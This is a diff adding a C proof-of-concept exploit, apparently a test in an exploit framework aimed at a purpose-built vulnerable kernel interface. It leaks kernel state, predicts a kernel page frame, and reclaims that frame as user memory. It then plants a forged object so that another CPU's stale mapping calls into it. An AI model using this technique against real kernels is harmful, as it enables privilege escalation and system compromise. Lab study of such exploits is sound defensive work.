@@ -1,0 +1,57 @@
+/*
+ * One processor remembers where a frame of the kernel's was; another makes that frame user memory
+ * and puts a forged object there; the first one's memory still leads to it.
+ */
+#include "attack.h"
+
+enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
+enum { STAGE_WARM = 1, STAGE_WARMED, STAGE_FORGED, STAGE_CALLED };
+
+static attack_stage stage;
+static struct attack_frame frame;
+
+/* Shares the victim's processor, so that this switches threads between the two steps. */
+static void company(void *unused)
+{
+	(void)unused;
+	attack_await(&stage, STAGE_CALLED, AWAIT_YIELD);
+}
+
+static void victim(void *unused)
+{
+	(void)unused;
+	attack_await(&stage, STAGE_WARM, AWAIT_YIELD);
+	attack_check("vuln_warm", bw_vuln_warm(frame.synonym));
+	attack_tell(&stage, STAGE_WARMED);
+	attack_await(&stage, STAGE_FORGED, AWAIT_YIELD);
+	attack_check("vuln_call", bw_vuln_call(frame.synonym));
+	attack_tell(&stage, STAGE_CALLED);
+}
+
+int main(void)
+{
+	struct bw_leak leak;
+	void *page;
+
+	attack_leak(&leak);
+	attack_need_cpus(NR_CPUS);
+	attack_pin(CPU_OF_ALLOCATOR);
+	attack_thread(CPU_OF_VICTIM, victim, NULL);
+	attack_thread(CPU_OF_VICTIM, company, NULL);
+
+	attack_frame_predict(&leak, &frame);
+	attack_say("frame 0x%lx is the kernel's, and will be ours next", frame.pfn);
+	attack_tell(&stage, STAGE_WARM);
+	attack_await(&stage, STAGE_WARMED, AWAIT_YIELD);
+	attack_say("CPU %d has read it at 0x%lx", CPU_OF_VICTIM, frame.synonym);
+
+	page = attack_frame_take(&frame);
+	if (page == NULL) {
+		attack_skip("the next page came from elsewhere");
+	}
+	payload_object(page, frame.synonym, &leak);
+	attack_say("it is ours now, with a forged object in it");
+	attack_tell(&stage, STAGE_FORGED);
+	attack_await(&stage, STAGE_CALLED, AWAIT_YIELD);
+	return attack_finish();
+}
